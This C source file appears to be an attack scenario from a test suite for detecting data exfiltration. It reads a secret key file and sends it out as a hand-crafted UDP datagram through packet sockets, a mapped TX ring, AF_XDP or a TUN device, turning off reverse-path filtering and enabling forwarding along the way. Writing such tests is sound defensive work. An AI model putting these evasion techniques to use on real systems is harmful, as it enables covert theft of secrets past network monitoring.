/* SPDX-License-Identifier: GPL-2.0-or-later */

/* E08, E09: the secret leaves below the level of connections: a complete datagram is sent by a packet socket
 * (to an address, bound to an interface, with its Ethernet header, from a mapped ring) or an AF_XDP socket,
 * or written to a TUN device, and the kernel forwards it. */

#include <linux/if_packet.h>
#include <linux/if_tun.h>
#include <linux/if_xdp.h>
#include <net/if.h>
#include <netinet/ether.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <sys/ioctl.h>
#include <sys/mman.h>

#include "play.h"

/* An unassigned address of the thief's network: the source does not matter. */
#define SOURCE "192.0.2.99"
/* One frame is enough: a page. */
#define FRAME_SIZE 4096

static Play p;
static char packet[sizeof(struct ethhdr) + sizeof(struct iphdr) + sizeof(struct udphdr) + PLAY_SECRET_MAX];
static const unsigned char everybody[ETH_ALEN] = { 0xff, 0xff, 0xff, 0xff, 0xff, 0xff };

/* The only interface that is neither loopback nor created here. */
static int interface_index(void) {
        struct if_nameindex *all = if_nameindex();

        for (struct if_nameindex *i = all; i && i->if_index > 0; i++)
                if (strncmp(i->if_name, "bwt", 3) == 0)
                        return (int)i->if_index;
        play_die("no interface");
}

/* RFC 1071, over an IPv4 header. */
static uint16_t checksum(const void *header, size_t size) {
        const uint16_t *words = header;
        uint32_t sum = 0;

        for (size_t i = 0; i < size / 2; i++)
                sum += words[i];
        while (sum >> 16)
                sum = (sum & 0xffff) + (sum >> 16);
        return (uint16_t)~sum;
}

/* A UDP datagram over IPv4 with the secret in it; the checksum of UDP may be omitted. */
static size_t datagram_make(char *to) {
        struct iphdr ip = { .version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_UDP };
        struct udphdr udp = { .source = htons(40000), .dest = htons(p.port) };
        size_t size = sizeof(ip) + sizeof(udp) + p.n_secret;

        ip.tot_len = htons((uint16_t)size);
        if (inet_pton(AF_INET, SOURCE, &ip.saddr) != 1 || inet_pton(AF_INET, p.address, &ip.daddr) != 1)
                play_die("%s is not IPv4", p.address);
        ip.check = checksum(&ip, sizeof(ip));
        udp.len = htons((uint16_t)(sizeof(udp) + p.n_secret));
        memcpy(to, &ip, sizeof(ip));
        memcpy(to + sizeof(ip), &udp, sizeof(udp));
        memcpy(to + sizeof(ip) + sizeof(udp), p.secret, p.n_secret);
        return size;
}

static int packet_socket(int type) {
        int fd = socket(AF_PACKET, type | SOCK_CLOEXEC, 0);

        if (fd < 0)
                play_exit(errno == EAFNOSUPPORT ? PLAY_CANNOT : 1, "packet socket");
        return fd;
}

static struct sockaddr_ll destination(void) {
        struct sockaddr_ll address = { .sll_family = AF_PACKET,
                .sll_protocol = htons(ETH_P_IP),
                .sll_ifindex = interface_index(),
                .sll_halen = ETH_ALEN };

        memcpy(address.sll_addr, everybody, ETH_ALEN);
        return address;
}

static void send_to(void) {
        struct sockaddr_ll address = destination();
        size_t size = datagram_make(packet);

        if (sendto(packet_socket(SOCK_DGRAM), packet, size, 0, (struct sockaddr *)&address,
                            sizeof(address)) < 0)
                play_die("sendto");
}

static size_t frame_make(char *to) {
        struct ethhdr header = { .h_proto = htons(ETH_P_IP) };

        memcpy(header.h_dest, everybody, ETH_ALEN);
        memcpy(to, &header, sizeof(header));
        return sizeof(header) + datagram_make(to + sizeof(header));
}

static int bound_socket(void) {
        struct sockaddr_ll address = destination();
        int fd = packet_socket(SOCK_RAW);

        /* It receives nothing. */
        address.sll_protocol = 0;
        if (bind(fd, (struct sockaddr *)&address, sizeof(address)) < 0)
                play_die("bind");
        return fd;
}

static void send_bound(int fd) {
        size_t size = frame_make(packet);

        if (write(fd, packet, size) != (ssize_t)size)
                play_die("write");
}

/* The data is in the ring; the call that sends it has no bytes. */
static void send_ring(int fd, char *ring) {
        struct tpacket_hdr *header = (struct tpacket_hdr *)ring;

        header->tp_len = (unsigned)frame_make(ring + TPACKET_HDRLEN - sizeof(struct sockaddr_ll));
        __atomic_store_n(&header->tp_status, TP_STATUS_SEND_REQUEST, __ATOMIC_SEQ_CST);
        if (send(fd, NULL, 0, 0) < 0)
                play_die("send");
}

static char *ring_map(int fd) {
        struct tpacket_req request = {
                .tp_block_size = FRAME_SIZE, .tp_block_nr = 1, .tp_frame_size = FRAME_SIZE, .tp_frame_nr = 1
        };
        void *at;

        if (setsockopt(fd, SOL_PACKET, PACKET_TX_RING, &request, sizeof(request)) < 0)
                play_exit(PLAY_CANNOT, "PACKET_TX_RING");
        at = mmap(NULL, FRAME_SIZE, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
        if (at == MAP_FAILED)
                play_die("mmap");
        return at;
}

/* In the network namespace of the test. */
static void setting_write(const char *name, const char *value) {
        char path[128];
        int fd;

        snprintf(path, sizeof(path), "/proc/sys/net/ipv4/%s", name);
        fd = open(path, O_WRONLY | O_CLOEXEC);
        if (fd < 0 || write(fd, value, strlen(value)) < 0)
                play_die("%s", path);
        close(fd);
}

static int tun_open(void) {
        struct ifreq request = { .ifr_flags = IFF_TUN | IFF_NO_PI, .ifr_name = "bwtun" };
        int fd = open("/dev/net/tun", O_RDWR | O_CLOEXEC),
            control = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);

        if (fd < 0 || ioctl(fd, TUNSETIFF, &request) < 0)
                play_exit(PLAY_CANNOT, "TUN");
        if (ioctl(control, SIOCGIFFLAGS, &request) < 0)
                play_die("SIOCGIFFLAGS");
        request.ifr_flags |= IFF_UP;
        if (ioctl(control, SIOCSIFFLAGS, &request) < 0)
                play_die("SIOCSIFFLAGS");
        setting_write("conf/all/rp_filter", "0");
        setting_write("conf/bwtun/rp_filter", "0");
        setting_write("ip_forward", "1");
        return fd;
}

static void send_tun(int fd) {
        size_t size = datagram_make(packet);

        if (write(fd, packet, size) != (ssize_t)size)
                play_die("write to TUN");
}

/* AF_XDP: the frame is in memory of the process, and its descriptor in a ring that the kernel reads. poll(2)
 * is enough to have it sent. */
static void *xdp_map(int fd, size_t size, off_t what) {
        void *at = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, fd, what);

        if (at == MAP_FAILED)
                play_die("mmap of a ring");
        return at;
}

static void send_xdp(void) {
        static char frames[2 * FRAME_SIZE] __attribute__((aligned(FRAME_SIZE)));
        struct xdp_umem_reg memory = {
                .addr = (uintptr_t)frames, .len = sizeof(frames), .chunk_size = FRAME_SIZE
        };
        struct sockaddr_xdp address = {
                .sxdp_family = AF_XDP, .sxdp_flags = XDP_COPY, .sxdp_ifindex = (uint32_t)interface_index()
        };
        struct xdp_mmap_offsets at;
        socklen_t length = sizeof(at);
        int fd = socket(AF_XDP, SOCK_RAW | SOCK_CLOEXEC, 0), entries = 2;
        struct pollfd wait = { .fd = fd, .events = POLLOUT };

        if (fd < 0)
                play_exit(PLAY_CANNOT, "AF_XDP");
        if (setsockopt(fd, SOL_XDP, XDP_UMEM_REG, &memory, sizeof(memory)) < 0 ||
                        setsockopt(fd, SOL_XDP, XDP_UMEM_FILL_RING, &entries, sizeof(entries)) < 0 ||
                        setsockopt(fd, SOL_XDP, XDP_UMEM_COMPLETION_RING, &entries, sizeof(entries)) < 0 ||
                        setsockopt(fd, SOL_XDP, XDP_TX_RING, &entries, sizeof(entries)) < 0 ||
                        getsockopt(fd, SOL_XDP, XDP_MMAP_OFFSETS, &at, &length) < 0)
                play_die("AF_XDP");
        char *ring = xdp_map(fd, at.tx.desc + (size_t)entries * sizeof(struct xdp_desc), XDP_PGOFF_TX_RING);
        if (bind(fd, (struct sockaddr *)&address, sizeof(address)) < 0)
                play_exit(errno == EOPNOTSUPP ? PLAY_CANNOT : 1, "bind");
        ((struct xdp_desc *)(void *)(ring + at.tx.desc))[0] =
                        (struct xdp_desc){ .addr = 0, .len = (uint32_t)frame_make(frames) };
        __atomic_store_n((uint32_t *)(void *)(ring + at.tx.producer), 1, __ATOMIC_SEQ_CST);
        while (__atomic_load_n((uint32_t *)(void *)(ring + at.tx.consumer), __ATOMIC_SEQ_CST) == 0)
                if (poll(&wait, 1, -1) < 0)
                        play_die("poll");
}

int main(int argc, char **argv) {
        pid_t parents[] = { getppid(), 0 };
        char *ring = NULL;
        int fd = -1;

        play_init(&p, argc, argv);
        if (play_variant(&p, "tun"))
                fd = tun_open();
        else if (!play_variant(&p, "sendto") && !play_variant(&p, "xdp"))
                fd = bound_socket();
        if (play_variant(&p, "ring"))
                ring = ring_map(fd);
        play_truth(&p, getpid(), parents);
        play_read(&p, open(p.key, O_RDONLY | O_CLOEXEC));
        if (play_variant(&p, "sendto"))
                send_to();
        else if (play_variant(&p, "bound"))
                send_bound(fd);
        else if (play_variant(&p, "ring"))
                send_ring(fd, ring);
        else if (play_variant(&p, "xdp"))
                send_xdp();
        else if (play_variant(&p, "tun"))
                send_tun(fd);
        else
                play_unknown(&p);
        return 0;
}
